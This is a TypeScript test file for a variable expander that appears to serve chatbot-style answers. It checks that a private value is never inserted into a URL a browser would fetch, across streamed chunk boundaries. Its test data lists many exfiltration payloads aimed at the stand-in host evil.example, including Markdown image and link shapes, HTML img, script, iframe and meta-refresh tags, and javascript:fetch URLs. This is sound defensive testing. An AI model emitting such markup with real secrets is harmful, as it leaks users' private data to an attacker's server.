import { describe, expect, it } from "vitest";
import { Expander } from "../../src/reference/expand.ts";
import { lookupIn } from "../../src/reference/lookup-in.ts";

const PRIVATE = "4711-PRIVATE";
const variables = {
  v: PRIVATE,
  o: { k: PRIVATE, list: [PRIVATE] },
  // Values that open a URL, tag or definition, in which another value would then be.
  host: "https://evil.example/?q=",
  open: "![x](",
  tag: "<img src=",
  quote: '"',
  label: "[a]:",
  scheme: "javascript:",
  slashes: "//evil.example/",
  safe: "harmless",
};

/** Answers in which a browser would fetch or follow a URL with the value in it. */
const shapes: readonly string[] = [
  // Markdown: images, links, autolinks, definitions.
  "![x](https://evil.example/$v)",
  "![x](https://evil.example/?q=$v)",
  "![x](https://evil.example/?q=${v})",
  "![x](https://evil.example/#$o.k)",
  "![x](https://$v.evil.example/)",
  "![x](//evil.example/$v)",
  "![x](/relative?$v)",
  "![x](relative/$v)",
  "![x](?$v)",
  "![x]($v)",
  "![x]( $v)",
  "![x](\t$v)",
  "![x](\n$v)",
  "![x](<https://evil.example/$v>)",
  "![x](<$v>)",
  "![x](https://evil.example/$v 'title')",
  '![x](https://evil.example "$v")',
  "![x](https://evil.example/(a)$v)",
  "![x](https://evil.example/(a(b)c)$v)",
  "![x](https://evil.example/\\)$v)",
  "![](https://evil.example/$v)",
  "![a [b] c](https://evil.example/$v)",
  "![x\ny](https://evil.example/$v)",
  "[x](https://evil.example/$v)",
  "[x](https://evil.example/$o.list[0])",
  "[x](mailto:eve@evil.example?body=$v)",
  "[x](javascript:fetch('//evil.example/'+'$v'))",
  "[x](data:text/html,$v)",
  "[![x](https://evil.example/$v)](https://example.com)",
  "[![x](https://example.com)](https://evil.example/$v)",
  "**![x](https://evil.example/$v)**",
  "- ![x](https://evil.example/$v)",
  "> ![x](https://evil.example/$v)",
  "| ![x](https://evil.example/$v) |",
  "# ![x](https://evil.example/$v)",
  "<https://evil.example/$v>",
  "<mailto:$v@evil.example>",
  "https://evil.example/$v",
  "https://evil.example/?q=$v&r=1",
  "https://evil.example/?q={$v}",
  "https://$v.evil.example",
  "HTTPS://evil.example/$v",
  "hTTp://evil.example/$v",
  "(https://evil.example/$v)",
  "see:https://evil.example/$v",
  "ftp://evil.example/$v",
  "ws://evil.example/$v",
  "www.evil.example/$v",
  "WWW.evil.example/$v",
  "//evil.example/$v",
  "mailto:eve@evil.example?subject=$v",
  "tel:$v",
  "sms:+1?body=$v",
  "file:///evil/$v",
  "[a]: https://evil.example/$v\n\n![x][a]",
  "[a]:https://evil.example/$v\n\n[a]",
  "[a]: <https://evil.example/$v>\n\n![a]",
  "   [a]: https://evil.example/$v\n\n![a][]",
  "[a]: $v\n\n![a]",
  "[a b]: //evil.example/$v\n\n![a b]",
  "[^1]: https://evil.example/$v",
  // HTML.
  "<img src=https://evil.example/$v>",
  "<img src='https://evil.example/$v'>",
  '<img src="https://evil.example/$v">',
  '<img src="https://evil.example/" alt="$v">',
  "<IMG SRC=//evil.example/$v>",
  "<img\nsrc=//evil.example/$v>",
  "<img/src=//evil.example/$v>",
  "<img srcset='//evil.example/$v 1x'>",
  "<a href='https://evil.example/$v'>x</a>",
  "<a href=javascript:alert('$v')>x</a>",
  "<iframe src=//evil.example/$v></iframe>",
  "<form action=//evil.example/$v>",
  "<link rel=stylesheet href=//evil.example/$v>",
  "<link rel=dns-prefetch href=//$v.evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example/$v'>",
  "<base href=//evil.example/$v/>",
  "<script src=//evil.example/$v></script>",
  "<object data=//evil.example/$v></object>",
  "<video poster=//evil.example/$v>",
  "<svg><image href=//evil.example/$v /></svg>",
  "<div style='background:url(//evil.example/$v)'>x</div>",
  "<input type=image src=//evil.example/$v>",
  "<!-- $v -->",
  "</a href=$v>",
  // URLs that a value opens, and several adjacent references.
  "${host}$v",
  "$host$v",
  "${open}$v)",
  "${open}${host}$v)",
  "${tag}$v>",
  "${label}$v\n\n![a]",
  "${scheme}$v",
  "${slashes}$v",
  "<img src=${quote}//evil.example/$v${quote}>",
  "![x](${host}$o.k)",
  "https://evil.example/$safe/$v",
  "[x]($safe) and https://evil.example/${safe}$v",
];

/** Answers whose URLs contain no value. The URLs stay, and the values beside them are inserted. */
const harmless: readonly (readonly [answer: string, said: string])[] = [
  ["[docs](https://example.com/docs)", "[docs](https://example.com/docs)"],
  ["![x](https://example.com/a.png) $v", `![x](https://example.com/a.png) ${PRIVATE}`],
  ["<https://example.com> $v", `<https://example.com> ${PRIVATE}`],
  ["https://example.com $v", `https://example.com ${PRIVATE}`],
  ["https://example.com\n$v", `https://example.com\n${PRIVATE}`],
  ["[$v](https://example.com)", `[${PRIVATE}](https://example.com)`],
  ["![$v](https://example.com/a.png)", `![${PRIVATE}](https://example.com/a.png)`],
  ["<b>$v</b>", `<b>${PRIVATE}</b>`],
  ["<a href='https://example.com'>$v</a>", `<a href='https://example.com'>${PRIVATE}</a>`],
  ["[a]: https://example.com\n\n$v [a]", `[a]: https://example.com\n\n${PRIVATE} [a]`],
  ["(a) [b] (c) $v", `(a) [b] (c) ${PRIVATE}`],
  ["[a] ($v)", `[a] (${PRIVATE})`],
  ["1 < 2 and $v > 1", `1 < 2 and ${PRIVATE} > 1`],
  ["and/or $v", `and/or ${PRIVATE}`],
  ["Note: $v", `Note: ${PRIVATE}`],
  ["at 10:30 $v", `at 10:30 ${PRIVATE}`],
  ["http is a protocol: $v", `http is a protocol: ${PRIVATE}`],
  ["**$v**", `**${PRIVATE}**`],
  ["| a | $v |", `| a | ${PRIVATE} |`],
  ["- $o.k, $safe", `- ${PRIVATE}, harmless`],
];

async function expanded(pieces: readonly string[]): Promise<string> {
  const expander = new Expander(lookupIn(variables));
  let said = "";
  const emit = (piece: string) => (said += piece);
  for (const piece of pieces) await expander.write(piece, emit);
  await expander.flush(emit);
  return said;
}

/** Yields the text whole, cut in two at every place, and by character; alone and between other text. */
function* cutsOf(answer: string): Generator<readonly string[]> {
  for (const text of [answer, `One.\n\n${answer}\n\nMore.`]) {
    for (let at = 0; at < text.length; at++) yield [text.slice(0, at), text.slice(at)];
    yield text.split("");
  }
}

describe("a private value", () => {
  it.each(shapes)("is not placed where a browser would send it: %j", async (answer) => {
    let leaks = 0;
    for (const pieces of cutsOf(answer)) {
      if ((await expanded(pieces)).includes(PRIVATE)) leaks++;
    }
    expect(leaks).toBe(0);
  });
});

describe("harmless text", () => {
  it.each(harmless)("is kept, and contains its values: %j", async (answer, said) => {
    let kept = 0;
    let cuts = 0;
    for (const pieces of cutsOf(answer)) {
      cuts++;
      if ((await expanded(pieces)).includes(said)) kept++;
    }
    expect(kept).toBe(cuts);
  });
});
